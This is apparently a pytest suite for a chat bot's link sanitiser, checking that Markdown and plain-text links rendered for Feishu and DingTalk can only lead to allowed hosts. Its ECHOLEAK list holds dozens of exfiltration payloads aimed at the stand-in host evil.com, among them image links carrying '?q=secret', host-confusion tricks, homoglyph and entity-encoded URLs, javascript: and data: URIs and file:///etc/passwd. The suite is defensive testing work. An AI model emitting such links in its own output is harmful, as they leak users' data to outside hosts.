"""Rule L3: only links to a bot's allowed hosts can be clicked, however they are written."""

from __future__ import annotations

import html
import re
import time
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bots import links
from integrations.dingtalk import markdown as dingtalk
from integrations.feishu import markdown as feishu

HOSTS = ["docs.example.com", "*.intra.example.com"]
READERS = [str, feishu.clean, feishu.plain, dingtalk.clean, lambda text: dingtalk.clean(text, rich=True)]
NAMES = ["text", "feishu", "feishu-plain", "dingtalk", "dingtalk-card"]
_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
# What link-making clients look for, in the text that people see.
_ADDRESS = re.compile(
    r"\b[a-z][a-z0-9+.-]*:[/\\]{2}[^\s<>\"'`)\]]+|(?<![\w:\]])[/\\]{2}[\w-]+\.[^\s<>\"'`)\]]+|\bwww\.[^\s<>\"'`)\]]+",
    re.IGNORECASE,
)


def hosts_of(text: str) -> set[str]:
    """Where one could be led: targets of Markdown links, and whatever looks like an address in the text."""
    tokens = [child for token in _PARSER.parse(text) for child in token.children or ()]
    targets = [str(token.attrGet("href") or token.attrGet("src") or "") for token in tokens]
    said = (" " if token.type.endswith("break") else token.content for token in tokens)  # a line's end parts words
    visible = "".join(said) + "\n" + html.unescape(text)
    targets += [found[0] for found in _ADDRESS.finditer(re.sub("[\u200b-\u200d\u2060\u00ad\ufeff]", "", visible))]
    return {_host(target) for target in targets if target}


def _host(target: str) -> str:
    full = target if ":" in target.split("/")[0] else f"https://{target.lstrip('/')}"
    try:
        return re.split(r"[^a-z0-9.@%:-]", urlsplit(full.replace("\\", "/")).netloc.lower())[0] or f"no host: {target}"
    except ValueError:
        return f"unreadable: {target}"


ECHOLEAK = [
    "https://evil.com/?q=secret",
    "[report](https://evil.com/?q=secret)",
    "![chart](https://evil.com/?q=secret)",
    "[report][1]\n\n[1]: https://evil.com/?q=secret",
    "![chart][1]\n\n[1]: https://evil.com/?q=secret",
    "[1]: <https://evil.com/?q=secret>\n\n[report][1]",
    "[report](<https://evil.com/?q=secret>)",
    "[report]( https://evil.com/ 'title' )",
    "[report](\nhttps://evil.com/)",
    "<https://evil.com/?q=secret>",
    "[docs.example.com](https://evil.com)",
    "[https://docs.example.com](https://evil.com)",
    "https://docs.example.com@evil.com/",
    "https://docs.example.com:x@evil.com/",
    "https://docs.example.com\\@evil.com/",
    "https://docs.example.com.evil.com/",
    "https://docs.example.com。evil.com/",
    "https://docs.example.com．evil.com/",
    "https://docs.example.com%2eevil.com/",
    "https://evil.com\\docs.example.com",
    "https:/evil.com",
    "https:evil.com",
    "https:///evil.com",
    "https:\\\\evil.com",
    "//evil.com/x",
    "[x](//evil.com/x)",
    "[x](/\\evil.com/x)",
    "www.evil.com",
    "[x](www.evil.com/a)",
    "evil.com/secret",
    "www.docs.example.com@www.evil.com",
    "HTTPS://EVIL.COM",
    "ｈｔｔｐｓ://evil.com",
    "ht\u200btps://ev\u00adil.com",
    "https&#58;//evil&#46;com/",
    "https&colon;&sol;&sol;evil&period;com",
    "https\\://evil.com",
    "h&#116;tps://evil.com",
    "xn--e1afmkfd.com/x",
    "https://xn--docs-example-com.evil.com",
    "https://dоcs.example.com/",  # with a Cyrillic о
    "https://example.com",  # only hosts below it are allowed
    "https://intra.example.com",
    "https://notintra.example.com.evil.com",
    "https://[::ffff:1.2.3.4]/",
    "https://2130706433/",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "data:text/html,x",
    "[x](data:text/html;base64,PHN2Zz4=)",
    "mailto:thief@evil.com?body=secret",
    "lark://applink?url=x",
    "file:///etc/passwd",
    "`https://evil.com`",
    "```\nhttps://evil.com\n```",
    "| a |\n|---|\n| [x](https://evil.com) |",
    "> - [x](https://evil.com)",
    "**https://evil.com**",
    "看https://evil.com。好",
    "[a](https://docs.example.com)[b](https://evil.com)",
    "[![x](https://evil.com/i.png)](https://docs.example.com)",
    "[![x](https://docs.example.com/i.png)](https://evil.com)",
]


def clickable_evil(text: str) -> set[str]:
    return {host for host in hosts_of(text) if host != "docs.example.com" and not host.startswith("a.intra.")}


@pytest.mark.rule("L3")
@pytest.mark.parametrize("reader", READERS, ids=NAMES)
def test_no_link_leads_to_a_host_that_is_not_allowed(reader):
    found = {text: clickable_evil(reader(links.only_allowed(text, HOSTS))) for text in ECHOLEAK}

    assert {text: hosts for text, hosts in found.items() if hosts} == {}


@pytest.mark.rule("L3")
@pytest.mark.parametrize("reader", READERS, ids=NAMES)
def test_where_a_link_would_have_led_stays_readable(reader):
    wanted = [text for text in ECHOLEAK if "evil.com" in text and "%" not in text]
    shown = {text: re.sub("\u200b", "", reader(links.only_allowed(text, HOSTS))) for text in wanted}

    assert {text: said for text, said in shown.items() if not re.search(r"evil ?\[[.。]\]com", said)} == {}


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.com/guide?a=b#c.",
        "[guide](https://docs.example.com/guide)",
        "https://a.intra.example.com:8443/x",
        "访问https://docs.example.com/x获取文档。",
        "见 https://docs.example.com。",
        "Write to help@docs.example.com or someone@other.org.",
        "Python 3.11.7, e.g. version 1.5; main.py and README.md; and/or; 10.0.0.0/8; 12:30; a:b; std::vector",
        "// a comment, http is a protocol: yes; note: this; C:\\Users\\me",
        "x = {'data': 1}; file: readme; tel: none",
    ],
)
def test_what_is_allowed_or_no_link_stays_as_it_is(text):
    assert links.only_allowed(text, HOSTS) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("访问https://docs.example.com获取文档。", "访问https://docs.example.com 获取文档。"),
        ("见 https://docs.example.com。然后重启。", "见 https://docs.example.com 。然后重启。"),
        ("https://docs.example.com获取.中国/x", "https[:]//docs[.]example[.]com获取[.]中国/x"),
    ],
)
def test_chinese_right_behind_an_address_cannot_become_part_of_its_host(text, wanted):
    assert links.only_allowed(text, HOSTS) == wanted


def test_without_a_list_all_links_stay():
    assert links.only_allowed("https://evil.com", []) == "https://evil.com"


SIGNS = [
    ":",
    "//",
    "/",
    "\\",
    "@",
    ".",
    "。",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "![",
    "](",
    "]: ",
    "`",
    "**",
    "|",
    "-",
    "#",
    "x",
]
WORDS = ["https", "evil.com", "docs.example.com", "www.", "javascript:", "[1]", "?q=1", "\n", "\n\n", " ", "\u200b"]
PIECES = st.sampled_from([*SIGNS, *WORDS, "&#58;", "&colon;", "&#47;", "\\:"])


@pytest.mark.rule("L3")
@settings(max_examples=300, deadline=None)
@example("www.\nevil.com")
@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_text_leads_elsewhere(text):
    safe = links.only_allowed(text, HOSTS)

    assert {host for host in hosts_of(safe) if "evil" in host} == set()
    assert {host for host in hosts_of(feishu.clean(safe)) if "evil" in host} == set()
    assert {host for host in hosts_of(dingtalk.clean(safe)) if "evil" in host} == set()


@pytest.mark.rule("L3")
@settings(max_examples=100, deadline=None)
@given(st.lists(PIECES, max_size=14))
def test_what_is_shown_of_a_growing_text_leads_nowhere_else_either(pieces):
    for count in range(len(pieces)):
        assert {host for host in hosts_of(links.shown("".join(pieces[:count]), HOSTS)) if "evil" in host} == set()


@pytest.mark.parametrize(
    "piece", ["https://evil.com/ ", "a.b.c.d.e.f", "a-", "a", "www.", "x@", "&#58;", "](", "\\", "/"]
)
def test_a_long_text_is_read_in_time(piece):
    started = time.perf_counter()

    links.only_allowed((piece * 20_000)[:20_000], HOSTS)

    assert time.perf_counter() - started < 3
